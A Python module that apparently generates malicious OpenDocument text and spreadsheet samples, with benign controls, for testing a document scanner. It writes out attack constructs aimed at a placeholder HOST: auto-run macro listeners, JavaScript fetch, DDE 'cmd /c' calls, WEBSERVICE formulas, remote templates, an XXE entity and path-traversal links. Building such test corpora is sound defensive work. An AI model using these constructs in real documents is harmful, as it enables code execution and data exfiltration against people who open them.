"""Attacks in OpenDocument."""

from attack import HOST, Attack, zipped
from attack_word import OLE, PNG

URN = "urn:oasis:names:tc:opendocument:xmlns:"
NAMES = " ".join(
    f'xmlns:{name}="{URN}{name}:1.0"'
    for name in ("office", "text", "table", "draw", "style", "form", "script", "meta", "presentation")
)
NAMES += f' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="{URN}svg-compatible:1.0" xmlns:fo="{URN}xsl-fo-compatible:1.0"'
NAMES += ' xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" xmlns:dom="http://www.w3.org/2001/xml-events"'


def odf(kind: str, body: str, head: str = "", parts=None, manifest: str = "", raw=None, extra=(), first=True) -> bytes:
    mime = f"application/vnd.oasis.opendocument.{kind}"
    wrapped = f"<office:{kind}>{body}</office:{kind}>"
    content = raw or (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {NAMES} office:version="1.3">{head}'
        f"<office:automatic-styles/><office:body>{wrapped}</office:body></office:document-content>"
    )
    listed = "".join(
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{"image/png" if path.endswith("png") else "text/xml"}"/>'
        for path in ["content.xml", *(parts or {})]
    )
    root = f'<manifest:file-entry manifest:full-path="/" manifest:version="1.3" manifest:media-type="{mime}"/>'
    entries = [("mimetype", mime)] if first else []
    entries += [("content.xml", content), *(parts or {}).items()]
    entries.append(
        (
            "META-INF/manifest.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{URN}manifest:1.0" manifest:version="1.3">{root}{listed}{manifest}</manifest:manifest>',
        )
    )
    return zipped([*entries, *extra], stored=("mimetype",))


def odt(body: str = "", **more) -> bytes:
    return odf("text", f"<text:p>汐見市</text:p>{body}", **more)


def ods(cell: str = "", before: str = "", after: str = "", **more) -> bytes:
    table = f'<table:table table:name="一覧"><table:table-column/><table:table-row>{cell}<table:table-cell><text:p>汐見市</text:p></table:table-cell></table:table-row></table:table>'
    return odf("spreadsheet", before + table + after, **more)


def cell(formula: str) -> str:
    return f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'


def documents():
    listener = '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="%s" xlink:href="vnd.sun.star.script:Standard.M.Run?language=Basic&amp;location=document"/></office:event-listeners>'
    yield "listener", "macro on opening", odt(head=f"<office:scripts>{listener % 'dom:load'}</office:scripts>")
    yield (
        "listener-link",
        "macro of a link",
        odt(
            f'<text:p><text:a xlink:href="https://city.example/" xlink:type="simple">{listener % "dom:mouseover"}押す</text:a></text:p>'
        ),
    )
    yield (
        "script",
        "script in the document",
        odt(f'<text:p><text:script script:language="JavaScript">fetch("http://{HOST}")</text:script></text:p>'),
    )
    yield (
        "script-link",
        "script from another machine",
        odt(
            f'<text:p><text:script script:language="JavaScript" xlink:href="http://{HOST}/x.js" xlink:type="simple"/></text:p>'
        ),
    )
    yield (
        "basic",
        "library of Basic",
        odt(parts={"Basic/script-lc.xml": "<a/>", "Basic/Standard/Module1.xml": f"<m>Shell {HOST}</m>"}),
    )
    yield "python", "script of Python", odt(parts={"Scripts/python/x.py": f"import os # {HOST}"})
    yield (
        "configurations",
        "toolbar with a macro",
        odt(parts={"Configurations2/accelerator/current.xml": f"<a>{HOST}</a>"}),
    )
    yield (
        "macro-field",
        "field that runs a macro",
        odt('<text:p><text:execute-macro text:name="Run">押す</text:execute-macro></text:p>'),
    )
    for n, target in enumerate(
        (
            f"file://{HOST}/x",
            f"\\\\{HOST}\\x",
            "vnd.sun.star.script:x?language=Python",
            f"macro://./Standard.M.Run({HOST})",
            ".uno:Exit",
            "javascript:alert(1)",
            "../../../etc/passwd",
            f"smb://{HOST}/x",
        )
    ):
        yield (
            f"link-{n}",
            f"link to {target[:12]}",
            odt(f'<text:p><text:a xlink:href="{target}" xlink:type="simple">押す</text:a></text:p>'),
        )
    for element, inner in (
        ("image", ""),
        ("object", ""),
        ("object-ole", ""),
        ("plugin", ""),
        ("applet", ""),
        ("floating-frame", ""),
    ):
        yield (
            f"frame-{element}",
            f"{element} of another machine",
            odt(
                f'<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:{element} xlink:href="http://{HOST}/x" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame></text:p>'
            ),
        )
    yield (
        "frame-parent",
        "picture outside the package",
        odt(
            '<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:image xlink:href="../../x.png" xlink:type="simple"/></draw:frame></text:p>'
        ),
    )
    yield (
        "object-inside",
        "embedded object",
        odt(
            '<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>',
            parts={"Object 1": OLE},
        ),
    )
    yield (
        "fill-image",
        "fill picture of another machine",
        odt(
            parts={
                "styles.xml": f'<office:document-styles {NAMES}><office:styles><draw:fill-image draw:name="f" xlink:href="http://{HOST}/x.png"/></office:styles></office:document-styles>'
            }
        ),
    )
    yield (
        "background",
        "background picture of another machine",
        odt(
            head=f'<office:automatic-styles><style:style style:name="p" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="http://{HOST}/x.png"/></style:paragraph-properties></style:style></office:automatic-styles>'
        ),
    )
    yield (
        "font-uri",
        "font of another machine",
        odt(
            head=f'<office:font-face-decls><style:font-face style:name="f"><svg:font-face-src><svg:font-face-uri xlink:href="http://{HOST}/f.ttf"/></svg:font-face-src></style:font-face></office:font-face-decls>'
        ),
    )
    yield (
        "section-source",
        "section taken from another document",
        odt(
            f'<text:section text:name="s"><text:section-source xlink:href="http://{HOST}/x.odt" text:filter-name="writer8"/><text:p>a</text:p></text:section>'
        ),
    )
    yield (
        "section-dde",
        "section by DDE",
        odt(
            f'<text:section text:name="s"><office:dde-source office:dde-application="cmd" office:dde-topic="/c {HOST}" office:dde-item="x" office:automatic-update="true"/><text:p>a</text:p></text:section>'
        ),
    )
    yield (
        "dde-connection",
        "DDE of a field",
        odt(
            f'<text:dde-connection-decls><text:dde-connection-decl office:name="c" office:dde-application="cmd" office:dde-topic="/c {HOST}" office:dde-item="x"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="c">a</text:dde-connection></text:p>'
        ),
    )
    yield (
        "form",
        "form that sends",
        odt(
            f'<office:forms><form:form form:name="f" xlink:href="http://{HOST}/x" form:method="post"><form:button form:button-type="submit" xlink:href="http://{HOST}/y"/></form:form></office:forms>'
        ),
    )
    yield (
        "template",
        "template of another machine",
        odt(
            parts={
                "meta.xml": f'<office:document-meta {NAMES}><office:meta><meta:template xlink:href="http://{HOST}/x.ott" xlink:actuate="onRequest"/><meta:auto-reload xlink:href="http://{HOST}/" meta:delay="PT1S"/></office:meta></office:document-meta>'
            }
        ),
    )
    yield (
        "database-field",
        "field of a database",
        odt(
            f'<text:p><text:database-display text:database-name="{HOST}" text:table-name="t" text:column-name="c">a</text:database-display></text:p>'
        ),
    )
    yield "signatures", "signatures", odt(parts={"META-INF/documentsignatures.xml": "<document-signatures/>"})
    yield "thumbnail", "thumbnail with something behind", odt(parts={"Thumbnails/thumbnail.png": PNG + HOST.encode()})
    yield (
        "doctype",
        "entities",
        odt(
            raw=f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "http://{HOST}/">]><office:document-content {NAMES}><office:body><office:text><text:p>&a;</text:p></office:text></office:body></office:document-content>'
        ),
    )
    yield (
        "utf16",
        "macro on opening, in UTF-16",
        odt(
            raw=f'<?xml version="1.0" encoding="UTF-16"?><office:document-content {NAMES}><office:scripts>{listener % "dom:load"}</office:scripts><office:body><office:text><text:p>汐見市</text:p></office:text></office:body></office:document-content>'.encode(
                "utf-16"
            )
        ),
    )
    yield (
        "prefix",
        "script under another prefix",
        odt(
            raw=f'<o:document-content xmlns:o="{URN}office:1.0" xmlns:s="{URN}script:1.0" xmlns:t="{URN}text:1.0" xmlns:l="http://www.w3.org/1999/xlink"><o:scripts><o:event-listeners><s:event-listener s:event-name="dom:load" l:href="macro:///Standard.M.Run"/></o:event-listeners></o:scripts><o:body><o:text><t:p>汐見市</t:p></o:text></o:body></o:document-content>'
        ),
    )
    yield (
        "encrypted",
        "an entry said to be encrypted",
        odt(
            manifest='<manifest:file-entry manifest:full-path="x.xml" manifest:media-type=""><manifest:encryption-data/></manifest:file-entry>',
            parts={"x.xml": b"\x01\x02"},
        ),
    )
    yield "twice", "content twice", odt(extra=[("content.xml", f"<a>{HOST}</a>")])
    yield "no-mimetype", "without its first entry", odt(first=False)


def sheets():
    for name, text in (
        ("dde", f"of:=DDE(&quot;cmd&quot;;&quot;/c {HOST}&quot;;&quot;x&quot;)"),
        ("dde-plain", f"DDE(&quot;cmd&quot;;&quot;/c {HOST}&quot;;&quot;x&quot;)"),
        ("webservice", f"of:=COM.MICROSOFT.WEBSERVICE(&quot;http://{HOST}&quot;)"),
        ("webservice-oooc", f"oooc:=WEBSERVICE(&quot;http://{HOST}&quot;)"),
        ("file", f"of:=[&apos;file://{HOST}/x.ods&apos;#$S.A1]"),
        ("file-http", f"of:=&apos;http://{HOST}/x.ods&apos;#$S.A1"),
        ("hyperlink", f"of:=HYPERLINK(&quot;file://{HOST}/x&quot;)"),
        ("msoxl", f"msoxl:=WEBSERVICE(&quot;http://{HOST}&quot;)"),
        ("case", f"of:=dDe(&quot;cmd&quot;;&quot;{HOST}&quot;;&quot;x&quot;)"),
    ):
        yield f"formula-{name}", f"formula {name}", ods(cell(text))
    yield (
        "dde-link",
        "DDE link",
        ods(
            after=f'<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c {HOST}" office:dde-item="x" office:automatic-update="true"/></table:dde-link></table:dde-links>'
        ),
    )
    yield (
        "table-source",
        "table of another document",
        odf(
            "spreadsheet",
            f'<table:table table:name="a"><table:table-source xlink:href="http://{HOST}/x.ods" table:table-name="b"/><table:table-row><table:table-cell/></table:table-row></table:table>',
        ),
    )
    yield (
        "cell-source",
        "cells of another document",
        ods(
            f'<table:table-cell><table:cell-range-source xlink:href="http://{HOST}/x.csv" table:name="x" table:last-column-spanned="1" table:last-row-spanned="1"/><text:p>a</text:p></table:table-cell>'
        ),
    )
    yield (
        "named",
        "named expression",
        ods(
            before="",
            after=f'<table:named-expressions><table:named-expression table:name="x" table:expression="of:=WEBSERVICE(&quot;http://{HOST}&quot;)"/></table:named-expressions>',
        ),
    )
    yield (
        "validation",
        "condition of a validation",
        ods(
            before=f'<table:content-validations><table:content-validation table:name="v" table:condition="of:cell-content-is-in-list(WEBSERVICE(&quot;http://{HOST}&quot;))"/></table:content-validations>'
        ),
    )
    yield (
        "database",
        "range of a database",
        ods(
            after=f'<table:database-ranges><table:database-range table:target-range-address="a.A1:a.A1"><table:database-source-sql table:database-name="{HOST}" table:sql-statement="x"/></table:database-range></table:database-ranges>'
        ),
    )
    yield (
        "listener",
        "macro of a sheet",
        ods(
            before="",
            head='<office:scripts><office:event-listeners><script:event-listener script:event-name="office:open-document" xlink:href="vnd.sun.star.script:Standard.M.Run?language=Basic"/></office:event-listeners></office:scripts>',
        ),
    )


UNSEEN = {"no-mimetype"}


def attacks():
    for name, what, data in documents():
        yield Attack(f"odt/{name}.odt", what, data, seen=name not in UNSEEN)
    for name, what, data in sheets():
        yield Attack(f"ods/{name}.ods", what, data, seen=name not in UNSEEN)
    yield Attack("odt/plain.odt", "nothing", odt("<text:p>広報 潮風</text:p>"), control=True, seen=False)
    yield Attack("ods/plain.ods", "nothing", ods(cell("of:=SUM(1;2)")), control=True, seen=False)
